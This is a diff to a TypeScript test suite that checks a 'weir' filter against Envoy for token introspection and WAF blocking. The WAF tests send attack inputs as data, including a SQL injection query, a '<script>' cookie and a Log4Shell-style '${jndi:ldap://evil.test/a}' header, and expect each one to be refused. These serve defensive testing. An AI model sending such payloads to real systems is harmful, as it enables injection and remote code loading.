@@ -392,8 +392,9 @@ describe('a filter that ships with weir does the same in Envoy', () => {
   });
 
   test('introspection: a good token, asked about once, a bad one, none, no answer', async () => {
-    const ask = async (token: string, authz: Behaviour): Promise<Seen> =>
+    const ask = async (token: string, authz: Behaviour, ...awaits: string[]): Promise<Seen> =>
       both.compare({
+        awaits,
         role: 'introspection',
         send: getRequest('/', 'plugin.test', `Authorization: Bearer ${token}`, 'X-User: root'),
         authz,
@@ -405,7 +406,8 @@ describe('a filter that ships with weir does the same in Envoy', () => {
       expect(seen.authz).toHaveLength(questions);
     }
     expect((await ask('bad', reply(200, [], '{"active":false}'))).answer.status).toBe(401);
-    expect((await ask('other', reply(500, [], ''))).answer.status).toBe(503);
+    const failed = await ask('other', reply(500, [], ''), 'the server gave no answer: 500');
+    expect(failed.answer.status).toBe(503);
     expect((await send('introspection', '/')).answer.status).toBe(401);
   });
 
@@ -447,15 +449,17 @@ describe('a filter that ships with weir does the same in Envoy', () => {
   });
 
   test('waf: attacks in query, cookies and fields, what is none, and what is excluded', async () => {
-    const ask = async (path: string, ...fields: string[]): Promise<number[]> => {
-      const head = getRequest(path, 'plugin.test', 'User-Agent: x', ...fields);
-      return (await both.each({ role: 'waf', send: head })).map((seen) => seen.answer.status);
+    const ask = async (path: string, fields: string[], awaits: RegExp[]): Promise<number[]> => {
+      const send = getRequest(path, 'plugin.test', 'User-Agent: x', ...fields);
+      return (await both.each({ role: 'waf', send, awaits })).map((seen) => seen.answer.status);
     };
-    expect(await ask('/?q=shoes')).toEqual([200, 200]);
-    expect(await ask('/?q=1%27+union+select+a+from+b')).toEqual([403, 403]);
-    expect(await ask('/?free=1%27+union+select+a+from+b')).toEqual([200, 200]);
-    expect(await ask('/', 'Cookie: a=<script>')).toEqual([403, 403]);
-    expect(await ask('/', 'X-Api-Version: ${jndi:ldap://evil.test/a}')).toEqual([403, 403]);
+    const refused = async (path: string, ...fields: string[]): Promise<void> =>
+      expect(await ask(path, fields, [/"waf":"denied"/])).toEqual([403, 403]);
+    expect(await ask('/?q=shoes', [], [])).toEqual([200, 200]);
+    await refused('/?q=1%27+union+select+a+from+b');
+    expect(await ask('/?free=1%27+union+select+a+from+b', [], [])).toEqual([200, 200]);
+    await refused('/', 'Cookie: a=<script>');
+    await refused('/', 'X-Api-Version: ${jndi:ldap://evil.test/a}');
   });
 
   test('bots: what is denied, who is verified by address, a honeypot, robots.txt', async () => {
